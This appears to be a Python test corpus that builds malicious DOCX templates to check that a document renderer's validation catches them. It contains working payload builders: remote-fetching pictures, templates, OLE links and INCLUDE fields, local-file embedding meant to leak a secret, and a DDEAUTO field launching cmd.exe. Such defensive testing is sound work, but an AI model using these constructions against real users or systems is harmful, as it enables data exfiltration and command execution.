"""Templates that make LibreOffice (or Word) fetch something: the corpus of issue 10, finding 1.

Each builder takes the base URL of a listener and the path of a local secret and returns DOCX bytes built
from a normal python-docx document, with the hostile XML added the way Word would write it.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import docx

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SECRET_TEXT = "SECRET-7f3a9c-LOCAL-FILE"
SECRET_SIZE = (37, 23)  # a picture of this size in the PDF means the local file was embedded


def secret_png() -> bytes:
    """A valid RGB PNG of SECRET_SIZE (an image LibreOffice would happily embed)."""
    width, height = SECRET_SIZE
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def _base() -> bytes:
    document = docx.Document()
    document.add_paragraph("Dear {{ contract.customer.name }},")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _patch(body: str = "", rels: dict[str, str] | None = None, settings: str = "") -> bytes:
    """The base document with ``body`` XML before the section properties, extra relationships per rels file
    (``{"word/_rels/document.xml.rels": "<Relationship …/>"}``) and ``settings`` XML in settings.xml."""
    source = zipfile.ZipFile(io.BytesIO(_base()))
    out = io.BytesIO()
    extra = dict(rels or {})
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "word/document.xml" and body:
                data = data.replace(b"<w:sectPr", body.encode() + b"<w:sectPr", 1)
            if info.filename == "word/settings.xml" and settings:
                data = data.replace(b"<w:zoom", settings.encode() + b"<w:zoom", 1)
            if info.filename in extra:
                data = data.replace(b"</Relationships>", extra.pop(info.filename).encode() + b"</Relationships>")
            dst.writestr(info, data)
        for name, rel in extra.items():
            dst.writestr(name, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
                         f'"http://schemas.openxmlformats.org/package/2006/relationships">{rel}</Relationships>')
    return out.getvalue()


def _rel(kind: str, target: str, rid: str = "rId90") -> str:
    return f'<Relationship Id="{rid}" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'


def _picture(attribute: str) -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="352425" cy="219075"/><wp:docPr id="9" name="p"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="9" '
        f'name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {attribute}/><a:stretch><a:fillRect/>'
        '</a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="352425" cy="219075"/>'
        '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def _complex_field(*instructions: str, result: str = "field result") -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{i}</w:instrText></w:r>' for i in instructions)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/>'
            f'</w:r><w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _simple_field(instruction: str) -> str:
    return f"<w:p><w:fldSimple w:instr='{instruction}'><w:r><w:t>field result</w:t></w:r></w:fldSimple></w:p>"


DOC_RELS = "word/_rels/document.xml.rels"

# name → (builder(url, secret_png_path, secret_txt_path), what validation must name)
Builder = Callable[[str, str, str], bytes]
CORPUS: dict[str, tuple[Builder, str]] = {
    "picture linked over http": (
        lambda url, png, txt: _patch(_picture('r:link="rId90"'), {DOC_RELS: _rel("image", f"{url}/x.png")}),
        "linked picture"),
    "picture linked to a local file": (
        lambda url, png, txt: _patch(_picture('r:link="rId90"'), {DOC_RELS: _rel("image", f"file://{png}")}),
        "linked picture"),
    "picture with embed pointing at an external target": (
        lambda url, png, txt: _patch(_picture('r:embed="rId90"'), {DOC_RELS: _rel("image", f"file://{png}")}),
        "linked picture"),
    "attached template": (
        lambda url, png, txt: _patch(settings='<w:attachedTemplate r:id="rId90"/>', rels={
            "word/_rels/settings.xml.rels": _rel("attachedTemplate", f"{url}/template.dotx")}),
        "attached template"),
    "sub-document": (
        lambda url, png, txt: _patch('<w:p><w:subDoc r:id="rId90"/></w:p>',
                                     {DOC_RELS: _rel("subDocument", f"{url}/sub.docx")}),
        "sub-document"),
    "linked OLE object": (
        lambda url, png, txt: _patch(
            '<w:p><w:r><w:object><v:shape id="s1" style="width:20pt;height:20pt"/><o:OLEObject Type="Link" '
            'ProgID="Word.Document.12" ShapeID="s1" r:id="rId90" UpdateMode="Always"/></w:object></w:r></w:p>',
            {DOC_RELS: _rel("oleObject", f"{url}/ole.docx")}),
        "OLE object"),
    "frame": (
        lambda url, png, txt: _patch(rels={DOC_RELS: _rel("frame", f"{url}/frame.html")}), "frame"),
    "INCLUDEPICTURE field (simple)": (
        lambda url, png, txt: _patch(_simple_field(f'INCLUDEPICTURE "{url}/f.png" \\d')), "INCLUDEPICTURE field"),
    "INCLUDETEXT field of a local file (simple)": (
        lambda url, png, txt: _patch(_simple_field(f'INCLUDETEXT "{txt}"')), "INCLUDETEXT field"),
    "INCLUDEPICTURE field split across runs": (
        lambda url, png, txt: _patch(_complex_field(" INCLUDE", f'PICTURE "{url}/c.png" \\d ')),
        "INCLUDEPICTURE field"),
    "INCLUDETEXT field (complex)": (
        lambda url, png, txt: _patch(_complex_field(f' INCLUDETEXT "{url}/t.txt" ')), "INCLUDETEXT field"),
    "INCLUDEPICTURE of a local file (complex)": (
        lambda url, png, txt: _patch(_complex_field(f' INCLUDEPICTURE "file://{png}" ')), "INCLUDEPICTURE field"),
    "DDEAUTO field": (
        lambda url, png, txt: _patch(_complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
        "DDEAUTO field"),
    "LINK field": (
        lambda url, png, txt: _patch(_complex_field(f' LINK Word.Document.12 "{url}/l.docx" "" \\a ')),
        "LINK field"),
}

# Links are allowed in the sense that they are kept as their text: no request, no live link in the output.
LINKS: dict[str, Builder] = {
    "external hyperlink": lambda url, png, txt: _patch(
        '<w:p><w:hyperlink r:id="rId90"><w:r><w:t>our website</w:t></w:r></w:hyperlink></w:p>',
        {DOC_RELS: f'<Relationship Id="rId90" Type="{REL}/hyperlink" Target="{url}/h" TargetMode="External"/>'}),
    "HYPERLINK field": lambda url, png, txt: _patch(_complex_field(f' HYPERLINK "{url}/hf" ', result="our website")),
}
